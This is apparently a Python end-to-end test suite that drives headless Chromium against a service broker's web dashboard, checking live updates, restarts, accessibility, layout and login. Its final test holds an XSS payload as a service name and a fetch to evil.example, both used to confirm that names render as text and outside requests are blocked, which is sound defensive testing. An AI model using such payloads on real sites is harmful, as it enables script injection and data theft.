"""The page of a broker in a headless Chromium, with real workers that die and come back."""

from __future__ import annotations

import resource
import signal
from contextlib import AsyncExitStack
from pathlib import Path

import pytest
from tests.cli.command import running_worker
from tests.gateway.test_users import users
from tests.page.rig import Shown, call, requests_in, serving, shown
from tests.page.test_streams import opened
from tests.support.browser import CHROMIUM, Page
from tests.support.live import eventually

from requite.access.passwords import hash_password
from requite.testing.processes import free_ports

pytestmark = [
    pytest.mark.e2e,
    pytest.mark.slow,
    pytest.mark.skipif(not CHROMIUM, reason="there is no chromium"),
]

SERVICES = "[...document.querySelectorAll('#services tbody th a')].map(each => each.textContent)"
WORKERS = "document.querySelectorAll('#workers tbody tr').length"
LIVE = "document.querySelector('#live')?.textContent == 'live'"
MAIN = "(document.querySelector('main')?.textContent ?? '')"
WIDTH = "document.documentElement.scrollWidth"


def only_asked(page: Page, broker: Shown) -> bool:
    """Whether the page has asked nobody but the broker."""
    return all(url.startswith(f"{broker.page}/") for url in page.requested)


async def tab_to(page: Page, condition: str) -> None:
    """Press Tab until the focus is where a condition says."""
    for _ in range(40):
        await page.press("Tab")
        if await page.run(f"Boolean({condition})"):
            return
    raise AssertionError(f"the focus never came to {condition}")


# --- live -----------------------------------------------------------------------------------------
async def test_workers_disappear_and_come_back(page: Page) -> None:
    with shown() as broker, serving(broker, "echo"):
        with serving(broker, "echo") as worker:
            await page.open(f"{broker.page}/services/echo")
            await page.until(f"{LIVE} && {WORKERS} == 2")
            await page.run("window.sameDocument = true")
            worker.send(signal.SIGKILL)
            await page.until(f"{WORKERS} == 1")
        with serving(broker, "echo"):
            await page.until(f"{WORKERS} == 2")
        assert await page.run("window.sameDocument")
        assert only_asked(page, broker)


async def test_services_and_their_requests_appear(page: Page) -> None:
    with shown() as broker:
        await page.open(broker.page)
        await page.until(f"{LIVE} && {MAIN}.includes('No service yet')")
        with serving(broker, "echo", "fail"):
            await page.until(f"{SERVICES}.join() == 'echo,fail'")
            call(broker, "fail", "x")
            row = "document.querySelectorAll('#services tbody tr')[1]?.textContent"
            await page.until(f"/failed/.test({row})")
            assert await page.run("document.title") == "requite broker"
        assert only_asked(page, broker)


async def test_the_filter_and_the_order_remain_while_the_page_changes(page: Page) -> None:
    with shown() as broker, serving(broker, "echo", "fail", "slow"):
        await page.open(f"{broker.page}/?sort=-name")
        await page.until(f"{LIVE} && {SERVICES}.join() == 'slow,fail,echo'")
        await page.run("document.querySelector('#q').focus()")
        await page.write("L")
        await page.until(f"{SERVICES}.join() == 'slow,fail'")
        assert await page.run("location.search") == "?sort=-name&q=L"
        await page.run("document.querySelector('#services thead th a').click()")
        await page.until(f"document.readyState == 'complete' && {SERVICES}.join() == 'fail,slow'")
        assert await page.run("document.querySelector('#q').value") == "L"


async def test_the_focus_stays_while_the_page_changes(page: Page) -> None:
    with shown() as broker, serving(broker, "echo"):
        await page.open(broker.page)
        await page.until(f"{LIVE} && {SERVICES}.join() == 'echo'")
        await page.run("document.querySelector('#services tbody a').focus()")
        with serving(broker, "count"):
            await page.until(f"{SERVICES}.join() == 'count,echo'")
            assert await page.run("document.activeElement.textContent") == "echo"


async def test_a_page_that_nobody_sees_leaves_its_connection(page: Page) -> None:
    with shown() as broker:
        await page.open(broker.page)
        await page.until(LIVE)
        other = await page.send("Target.createTarget", url="about:blank")
        await page.send("Target.activateTarget", targetId=other["targetId"])
        await page.until("document.querySelector('#live').textContent == 'paused'")
        await page.send("Page.bringToFront")
        await page.until(LIVE)


async def test_it_says_when_the_broker_is_gone(page: Page) -> None:
    with shown() as broker:
        await page.open(broker.page)
        await page.until(LIVE)
        broker.process.send(signal.SIGKILL)
        await page.until("document.querySelector('#live').textContent.includes('not connected')")
        assert await page.run("document.querySelector('#live').className") == "bad"
        page.complaints.clear()  # the browser counts each failed connection as an error


async def test_it_says_why_there_is_no_stream(page: Page) -> None:
    before = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (128, before[1]))
    try:
        with shown() as broker:
            resource.setrlimit(resource.RLIMIT_NOFILE, before)
            async with AsyncExitStack() as stack:
                for _ in range(64):
                    assert b" 200 " in (await opened(broker, stack))[0]
                await page.open(broker.page)
                says = "(document.querySelector('#live')?.textContent ?? '')"
                await page.until(f"{says}.startsWith('Too many open pages: 64 pages of this')")
            await page.until(LIVE)
    finally:
        resource.setrlimit(resource.RLIMIT_NOFILE, before)
    page.complaints.clear()  # the answers 503


async def test_it_goes_on_when_the_broker_is_back(page: Page) -> None:
    http, own = (f"127.0.0.1:{port}" for port in free_ports(2))
    again = ("--http", http, "--bind", f"tcp://{own}")
    with shown(*again) as broker, serving(broker, "echo"):
        await page.open(f"http://{http}/services/echo")
        await page.until(f"{LIVE} && {WORKERS} == 1")
        await page.run("window.sameDocument = true")
        broker.process.send(signal.SIGKILL)
        await page.until("document.querySelector('#live').className == 'bad'")
        with shown(*again) as successor:
            assert successor.url == broker.url
            await page.until(f"{LIVE} && {WORKERS} == 1")
            assert await page.run("window.sameDocument")
    page.complaints.clear()  # the browser counts each failed connection as an error


# --- requests -------------------------------------------------------------------------------------
async def test_the_story_of_a_request_is_found_by_its_id(page: Page, tmp_path: Path) -> None:
    journal = tmp_path / "journal"
    with shown(journal=journal) as broker, serving(broker, "echo", journal=journal):
        call(broker, "echo", "hello", "--journal", str(journal))
        [request_id] = requests_in(journal, "echo")
        await page.open(f"{broker.page}/requests")
        await page.until("document.readyState == 'complete' && document.querySelector('#find')")
        await page.press("/")
        assert await page.run("document.activeElement.id") == "find"
        await page.write(f" {request_id.upper()} ")
        await page.press("Enter")
        await page.until(f"location.pathname == '/requests/{request_id}'")
        await page.until(f"{MAIN}.includes('EXACTLY_ONE: accepted, and ended once, in time')")
        told = await page.run(MAIN)
        assert "Its caller got the reply (5 B) after" in told
        assert "starts its handler" in told
        assert await page.run("document.querySelectorAll('.lanes circle').length") >= 6
        assert await page.run("document.querySelectorAll('details pre').length") >= 6
        assert only_asked(page, broker)


async def test_failed_requests_are_listed(page: Page, tmp_path: Path) -> None:
    journal = tmp_path / "journal"
    with shown(journal=journal) as broker, serving(broker, "fail", "echo"):
        call(broker, "echo", "fine")
        call(broker, "fail", "first")
        call(broker, "fail", "second")
        eventually(lambda: len(requests_in(journal, "fail")) == 2, "both are written")
        await page.open(f"{broker.page}/requests?failed=1&since=10m")
        links = "[...document.querySelectorAll('main td a')].map(each => each.textContent)"
        await page.until(f"{links}.length == 2")
        assert await page.run(links) == requests_in(journal, "fail")[::-1]
        await page.run("document.querySelector('main td a').click()")
        await page.until(f"{MAIN}.includes('The broker ended it with')")


# --- everybody ------------------------------------------------------------------------------------
async def test_everything_is_reached_with_the_keyboard(page: Page) -> None:
    with shown() as broker, serving(broker, "echo"):
        await page.open(broker.page)
        await page.until(f"{LIVE} && {SERVICES}.join() == 'echo'")
        await page.press("Tab")
        assert await page.run("document.activeElement.className") == "skip"
        box = "document.activeElement.getBoundingClientRect()"
        assert await page.run(f"{box}.width") > 40, "the focused skip link is visible"
        await page.press("Enter")
        assert await page.run("document.activeElement.id") == "main"
        await tab_to(page, "document.activeElement.id == 'q'")
        await tab_to(page, "document.activeElement.textContent == 'queued'")
        style = "getComputedStyle(document.activeElement)"
        assert await page.run(f"{style}.outlineStyle") == "solid"
        await tab_to(page, "document.activeElement.textContent == 'echo'")
        await page.press("Enter")
        await page.until("location.pathname == '/services/echo'")


@pytest.mark.parametrize("dark", [False, True])
async def test_it_fits_a_phone_and_the_night(page: Page, tmp_path: Path, dark: bool) -> None:
    journal = tmp_path / "journal"
    with shown(journal=journal) as broker, serving(broker, "echo", "fail"):
        call(broker, "fail", "x" * 300)
        [request_id] = requests_in(journal, "fail")
        paths = ("/", "/services/echo", f"/requests/{request_id}", "/requests?failed=1", "/none")
        for path in paths:
            await page.open(broker.page + path, 390, dark=dark)
            await page.until("document.readyState == 'complete' && document.querySelector('h1')")
            assert await page.run(WIDTH) <= 390, path
            paper = await page.run("getComputedStyle(document.body).backgroundColor")
            assert paper == ("rgb(20, 23, 26)" if dark else "rgb(255, 255, 255)")
            await page.resize(320)
            assert await page.run(WIDTH) <= 320, path
        page.complaints.clear()  # the browser counts the answer 404 as an error


async def test_it_is_read_without_javascript(page: Page) -> None:
    with shown() as broker, serving(broker, "echo", "fail"):
        await page.send("Emulation.setScriptExecutionDisabled", value=True)
        await page.open(f"{broker.page}/?q=f&sort=rate")
        await page.until(f"{SERVICES}.join() == 'fail'")
        assert await page.run("document.querySelector('#live').textContent") != "live"
        with serving(broker, "fail"):  # the page loads itself again
            row = "document.querySelector('#services tbody tr')?.textContent"
            await page.until(f"({row} ?? '').includes('/ 2')")
        assert not [url for url in page.requested if "/events" in url]


async def test_a_user_logs_in_once(page: Page, tmp_path: Path) -> None:
    file = users(tmp_path, f'[user.ops]\npassword = "{hash_password("word")}"\nadmin = ["stats"]\n')
    with shown("--access", str(file)) as broker:
        await page.open(broker.page.replace("//", "//ops:word@"))
        await page.until(f"{LIVE} && {MAIN}.includes('No service yet')")
        await page.run("document.querySelector('nav a[href=\"/requests\"]').click()")
        await page.until("location.pathname == '/requests' && document.querySelector('h1')")
        assert "This broker has no journal" in await page.run(MAIN)
        page.complaints.clear()  # the answer 404


async def test_names_are_no_code(page: Page, tmp_path: Path) -> None:
    (tmp_path / "evil.py").write_text(
        "import requite\n"
        "NAME = '<img src=x onerror=alert(1)>&\"\\'</th><script>document.title=1</script>'\n"
        "dots = requite.service('..')(lambda request: b'')\n"
        "evil = requite.service(NAME)(lambda request: b'')\n"
    )
    with (
        shown() as broker,
        running_worker("evil:dots", "evil:evil", "--connect", broker.url, cwd=tmp_path),
    ):
        await page.open(broker.page)
        await page.until(f"{LIVE} && {SERVICES}.length == 2")
        assert (await page.run(SERVICES))[1].startswith("<img src=x onerror")
        for number, title in ((0, ".."), (1, "<img src=x onerror=alert(1)>")):
            await page.open(broker.page)
            await page.until(f"{LIVE} && {SERVICES}.length == 2")
            await page.run(f"document.querySelectorAll('#services tbody a')[{number}].click()")
            await page.until(f"location.pathname != '/' && {LIVE} && {WORKERS} == 1")
            assert (await page.run("document.querySelector('h1 bdi').textContent")).startswith(
                title
            )
            assert await page.run("document.images.length + document.scripts.length") == 1
        stolen = "fetch('https://evil.example/').then(() => 'sent', () => 'refused')"
        assert await page.run(stolen) == "refused"
        page.complaints.clear()  # the refusal
        assert only_asked(page, broker)
